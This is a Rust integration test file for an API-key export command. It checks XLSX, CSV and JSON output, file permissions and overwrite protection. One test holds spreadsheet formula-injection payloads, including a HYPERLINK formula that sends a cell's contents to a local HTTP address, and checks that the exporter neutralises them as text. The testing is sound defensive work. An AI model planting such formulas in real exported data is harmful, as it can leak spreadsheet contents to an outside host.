//! `apikeys export` against the reference server over real HTTP, its files read back: the
//! workbook's sheets, headers, rows and dates (calamine), its frozen header, autofilter and
//! column widths (the sheet XML), CSV and JSON shapes, the formula guard, 0600 files, and a
//! file that exists never replaced unless asked.

mod common;
#[path = "support/export_run.rs"]
mod export_run;

use std::path::Path;

use calamine::{Data, DataType};
use chrono::{DateTime, Utc};
use common::TestServer;
use export_run::{export_in, formulas, mode, part, sheets, text};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

const GENERATED: [&str; 8] = [
    "id",
    "keyName",
    "roles",
    "label",
    "creationDate",
    "creationDateToken",
    "creationDateNewToken",
    "status",
];
const EXTERNAL: [&str; 6] = ["id", "keyName", "roles", "account", "addedDate", "status"];

/// An account with keys of every kind: two roles, none, a pending renewal, an inactive key,
/// an accented label, and an external key with a role.
async fn account() -> TestServer {
    let server = TestServer::start().await;
    server
        .key_with_roles("ERP Integração", &["Catalog editor", "Logistics operator"])
        .await;
    server.key_with_roles("Nothing yet", &[]).await;
    let renewing = server.key_with_roles("Renewing", &["Catalog editor"]).await;
    let renewed = server
        .admin_call(
            Method::PATCH,
            &format!(
                "/api/vtexid/apikey/{}/apitoken/renew",
                renewing.creds.app_key
            ),
            None,
        )
        .await;
    assert_eq!(renewed.status, StatusCode::OK, "{}", renewed.text);
    let stopped = server.key_with_roles("Stopped", &[]).await;
    let put = server
        .admin_call(
            Method::PUT,
            &format!("/api/vlm/appkeys/{}", stopped.id),
            Some(json!({"isActive": false})),
        )
        .await;
    assert!(put.status.is_success(), "{}", put.text);
    let catalog = server.role_id("Catalog editor");
    let added = server
        .admin_call(
            Method::POST,
            "/api/vlm/external-appkeys",
            Some(json!({"appKey": "vtexappkey-partner-ABCDEF", "roles": [catalog]})),
        )
        .await;
    assert!(added.status.is_success(), "{}", added.text);
    server
}

async fn listing(server: &TestServer, path: &str) -> Vec<Value> {
    let reply = server.admin_call(Method::GET, path, None).await;
    reply.body.as_array().expect("a listing").clone()
}

async fn generated(server: &TestServer) -> Vec<Value> {
    listing(server, "/api/vlm/appkeys?expand=roles,token").await
}

async fn external(server: &TestServer) -> Vec<Value> {
    listing(server, "/api/vlm/external-appkeys?expand=roles").await
}

fn role_names(key: &Value) -> String {
    key["roles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|role| role["name"].as_str().unwrap())
        .collect::<Vec<_>>()
        .join("; ")
}

fn status(key: &Value) -> &'static str {
    if key["isActive"] == true {
        "Active"
    } else {
        "Inactive"
    }
}

fn at(value: &Value) -> Option<DateTime<Utc>> {
    value.as_str().map(|text| text.parse().unwrap())
}

/// A date cell holds a real spreadsheet date (a date format), at the API's moment.
fn assert_date(cell: &Data, expected: Option<DateTime<Utc>>, what: &str) {
    match expected {
        None => assert_eq!(cell, &Data::Empty, "{what}"),
        Some(expected) => {
            assert!(cell.is_datetime(), "{what} is a date: {cell:?}");
            let read = cell.as_datetime().unwrap().and_utc();
            // A spreadsheet date holds milliseconds.
            let off = (read - expected).num_milliseconds().abs();
            assert!(off <= 1, "{what}: {read} for {expected}");
        }
    }
}

fn headers(rows: &[Vec<Data>]) -> Vec<String> {
    rows[0].iter().map(text).collect()
}

#[tokio::test]
async fn the_workbook_holds_both_sheets_as_the_api_lists_them() {
    let server = account().await;
    let dir = tempfile::tempdir().unwrap();
    let run = export_in(dir.path(), &server, &server.admin, &["-o", "keys.xlsx"]).await;
    assert_eq!(run.status, 0, "{}", run.stderr);
    let path = dir.path().join("keys.xlsx");
    assert_eq!(mode(&path), 0o600, "readable by its owner only");
    let api = generated(&server).await;
    let api_external = external(&server).await;
    assert!(
        run.stderr.contains(&format!(
            "Exported {} generated keys and 1 external key to keys.xlsx.",
            api.len()
        )),
        "{}",
        run.stderr
    );

    let sheets = sheets(&path);
    let names: Vec<&str> = sheets.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["Generated keys", "External keys"]);
    let rows = &sheets[0].1;
    assert_eq!(headers(rows), GENERATED);
    assert_eq!(rows.len(), api.len() + 1, "a row per key");
    for (row, key) in rows[1..].iter().zip(&api) {
        let what = key["label"].as_str().unwrap();
        assert_eq!(text(&row[0]), key["id"].as_str().unwrap(), "{what}");
        assert_eq!(text(&row[1]), key["appKey"].as_str().unwrap(), "{what}");
        assert_eq!(text(&row[2]), role_names(key), "{what}");
        assert_eq!(text(&row[3]), what);
        assert_date(&row[4], at(&key["createdIn"]), what);
        assert_date(&row[5], at(&key["creationDateToken"]), what);
        assert_date(&row[6], at(&key["creationDateNewToken"]), what);
        assert_eq!(text(&row[7]), status(key), "{what}");
    }
    let labels: Vec<String> = rows[1..].iter().map(|row| text(&row[3])).collect();
    assert!(labels.contains(&"ERP Integração".to_string()), "{labels:?}");
    let renewing = rows.iter().find(|row| text(&row[3]) == "Renewing").unwrap();
    assert!(renewing[6].is_datetime(), "a pending renewal has its date");
    let erp = rows
        .iter()
        .find(|row| text(&row[3]) == "ERP Integração")
        .unwrap();
    assert_eq!(text(&erp[2]), "Catalog editor; Logistics operator");
    let stopped = rows.iter().find(|row| text(&row[3]) == "Stopped").unwrap();
    assert_eq!(text(&stopped[7]), "Inactive");

    let rows = &sheets[1].1;
    assert_eq!(headers(rows), EXTERNAL);
    assert_eq!(rows.len(), api_external.len() + 1);
    let key = &api_external[0];
    let row = &rows[1];
    assert_eq!(text(&row[0]), key["id"].as_str().unwrap());
    assert_eq!(text(&row[1]), "vtexappkey-partner-ABCDEF");
    assert_eq!(text(&row[2]), "Catalog editor");
    assert_eq!(text(&row[3]), "partner");
    assert_date(&row[4], at(&key["addedOn"]), "addedDate");
    assert_eq!(text(&row[5]), "Active");

    // The header row is frozen and filtered; columns are sized from their contents.
    let sheet = part(&path, "xl/worksheets/sheet1.xml");
    assert!(
        sheet.contains(r#"ySplit="1""#) && sheet.contains(r#"state="frozen""#),
        "a frozen header row: {sheet:.600}"
    );
    assert!(
        sheet.contains(&format!(r#"<autoFilter ref="A1:H{}"/>"#, api.len() + 1)),
        "an autofilter over every row"
    );
    let widths = column_widths(&sheet);
    assert_eq!(widths.len(), GENERATED.len(), "{widths:?}");
    assert!(
        widths.iter().all(|w| (10.0..=61.0).contains(w)),
        "{widths:?}"
    );
    assert!(widths[0] >= 36.0, "a uuid fits: {widths:?}");
    let external_sheet = part(&path, "xl/worksheets/sheet2.xml");
    assert!(external_sheet.contains(r#"<autoFilter ref="A1:F2"/>"#));
}

/// The width of each column, from the `<col min max width>` elements of a sheet's XML
/// (neighbours of one width share an element).
fn column_widths(sheet: &str) -> Vec<f64> {
    let attribute = |col: &str, name: &str| -> String {
        let value = col.split(&format!(r#"{name}=""#)).nth(1).unwrap();
        value[..value.find('"').unwrap()].to_string()
    };
    let mut widths = Vec::new();
    for col in sheet.split("<col ").skip(1) {
        let (min, max): (usize, usize) = (
            attribute(col, "min").parse().unwrap(),
            attribute(col, "max").parse().unwrap(),
        );
        let width: f64 = attribute(col, "width").parse().unwrap();
        widths.extend(std::iter::repeat_n(width, max - min + 1));
    }
    widths
}

fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_path(path).unwrap();
    let headers = reader.headers().unwrap().iter().map(String::from).collect();
    let rows = reader
        .records()
        .map(|record| record.unwrap().iter().map(String::from).collect())
        .collect();
    (headers, rows)
}

#[tokio::test]
async fn csv_and_json_have_the_shapes_of_the_api() {
    let server = account().await;
    let dir = tempfile::tempdir().unwrap();
    let api = generated(&server).await;
    let api_external = external(&server).await;

    let run = export_in(dir.path(), &server, &server.admin, &["-o", "keys.csv"]).await;
    assert_eq!(run.status, 0, "{}", run.stderr);
    let (headers, rows) = read_csv(&dir.path().join("keys.csv"));
    assert_eq!(headers, GENERATED);
    assert_eq!(rows.len(), api.len());
    for (row, key) in rows.iter().zip(&api) {
        assert_eq!(row[0], key["id"].as_str().unwrap());
        assert_eq!(row[1], key["appKey"].as_str().unwrap());
        assert_eq!(row[2], role_names(key));
        assert_eq!(row[3], key["label"].as_str().unwrap());
        assert_eq!(row[4].parse::<DateTime<Utc>>().ok(), at(&key["createdIn"]));
        assert_eq!(
            row[5].parse::<DateTime<Utc>>().ok(),
            at(&key["creationDateToken"])
        );
        assert_eq!(
            row[6].parse::<DateTime<Utc>>().ok(),
            at(&key["creationDateNewToken"])
        );
        assert_eq!(row[7], status(key));
    }
    assert_eq!(mode(&dir.path().join("keys.csv")), 0o600);

    let run = export_in(
        dir.path(),
        &server,
        &server.admin,
        &["--external", "-o", "ext.csv"],
    )
    .await;
    assert_eq!(run.status, 0, "{}", run.stderr);
    let (headers, rows) = read_csv(&dir.path().join("ext.csv"));
    assert_eq!(headers, EXTERNAL);
    assert_eq!(rows.len(), 1);
    assert_eq!(
        rows[0][..4],
        [
            api_external[0]["id"].as_str().unwrap(),
            "vtexappkey-partner-ABCDEF",
            "Catalog editor",
            "partner"
        ]
    );
    assert_eq!(
        rows[0][4].parse::<DateTime<Utc>>().ok(),
        at(&api_external[0]["addedOn"])
    );
    assert_eq!(rows[0][5], "Active");

    let run = export_in(
        dir.path(),
        &server,
        &server.admin,
        &["--format", "json", "-o", "-"],
    )
    .await;
    assert_eq!(run.status, 0, "{}", run.stderr);
    let document: Value = serde_json::from_str(&run.stdout).unwrap();
    let fields: Vec<&String> = document.as_object().unwrap().keys().collect();
    assert_eq!(fields, ["external", "generated"]);
    let exported = document["generated"].as_array().unwrap();
    assert_eq!(exported.len(), api.len());
    for (exported, key) in exported.iter().zip(&api) {
        for field in ["id", "appKey", "label", "isActive", "roles"] {
            assert_eq!(exported[field], key[field], "{field}");
        }
        for field in ["createdIn", "creationDateToken", "creationDateNewToken"] {
            assert_eq!(at(&exported[field]), at(&key[field]), "{field}");
        }
    }
    let exported = &document["external"][0];
    for field in ["id", "appKey", "account", "isActive", "roles"] {
        assert_eq!(exported[field], api_external[0][field], "{field}");
    }
    assert_eq!(at(&exported["addedOn"]), at(&api_external[0]["addedOn"]));
}

/// Labels a spreadsheet would run; the last two only a server other than ours could send
/// (ours refuses control characters), so they are written into its database.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"open\")",
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
];

#[tokio::test]
async fn cells_that_would_run_as_formulas_are_written_as_text() {
    let server = TestServer::start().await;
    for (n, label) in FORMULAS.iter().enumerate() {
        let key = server.key_with_roles(&format!("key {n}"), &[]).await;
        let (id, label) = (key.id.clone(), label.to_string());
        server
            .store()
            .call(move |conn| {
                conn.execute(
                    "UPDATE app_keys SET label = ?1 WHERE id = ?2",
                    rusqlite::params![label, id],
                )?;
                Ok(())
            })
            .await
            .unwrap();
    }
    let dir = tempfile::tempdir().unwrap();
    let run = export_in(dir.path(), &server, &server.admin, &["-o", "keys.xlsx"]).await;
    assert_eq!(run.status, 0, "{}", run.stderr);
    let path = dir.path().join("keys.xlsx");
    assert_eq!(
        formulas(&path, "Generated keys"),
        Vec::<String>::new(),
        "no formula"
    );
    let rows = &sheets(&path)[0].1;
    let labels: Vec<String> = rows[1..].iter().map(|row| text(&row[3])).collect();
    for label in FORMULAS {
        assert!(
            labels.contains(&label.to_string()),
            "{label:?} kept as written: {labels:?}"
        );
    }
    // Excel's quote prefix: editing such a cell keeps it text.
    assert!(part(&path, "xl/styles.xml").contains(r#"quotePrefix="1""#));

    let run = export_in(dir.path(), &server, &server.admin, &["-o", "keys.csv"]).await;
    assert_eq!(run.status, 0, "{}", run.stderr);
    let (_, rows) = read_csv(&dir.path().join("keys.csv"));
    let labels: Vec<&str> = rows.iter().map(|row| row[3].as_str()).collect();
    for label in FORMULAS {
        let guarded = format!("'{label}");
        assert!(
            labels.contains(&guarded.as_str()),
            "{guarded:?} in {labels:?}"
        );
    }
    let raw = std::fs::read_to_string(dir.path().join("keys.csv")).unwrap();
    for line in raw.lines().filter(|line| !line.is_empty()) {
        assert!(line.starts_with('"'), "every field quoted: {line:?}");
    }
}

#[tokio::test]
async fn a_file_that_exists_is_replaced_only_when_asked() {
    let server = TestServer::start().await;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("keys.csv");
    std::fs::write(&path, "keep me").unwrap();
    let run = export_in(dir.path(), &server, &server.admin, &["-o", "keys.csv"]).await;
    assert_eq!(run.status, 2, "refused before any request: {}", run.stderr);
    assert!(run.stderr.contains("--force"), "{}", run.stderr);
    assert_eq!(std::fs::read_to_string(&path).unwrap(), "keep me");

    let run = export_in(
        dir.path(),
        &server,
        &server.admin,
        &["-o", "keys.csv", "--force"],
    )
    .await;
    assert_eq!(run.status, 0, "{}", run.stderr);
    assert!(
        std::fs::read_to_string(&path)
            .unwrap()
            .starts_with("\"id\"")
    );
    assert_eq!(mode(&path), 0o600, "the replacement is private too");

    // The default name, in the current directory; a second export the same day is numbered.
    let first = export_in(dir.path(), &server, &server.admin, &[]).await;
    let second = export_in(dir.path(), &server, &server.admin, &[]).await;
    assert_eq!((first.status, second.status), (0, 0), "{}", second.stderr);
    let mut names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.ends_with(".xlsx"))
        .collect();
    names.sort();
    let today = chrono::Local::now().format("%Y-%m-%d").to_string();
    assert_eq!(
        names,
        [
            format!("apikeys-{}-{today}-2.xlsx", common::ACCOUNT),
            format!("apikeys-{}-{today}.xlsx", common::ACCOUNT)
        ]
    );
    for name in &names {
        assert_eq!(mode(&dir.path().join(name)), 0o600, "{name}");
        assert!(second.stderr.contains("Exported") || first.stderr.contains(name.as_str()));
    }
}
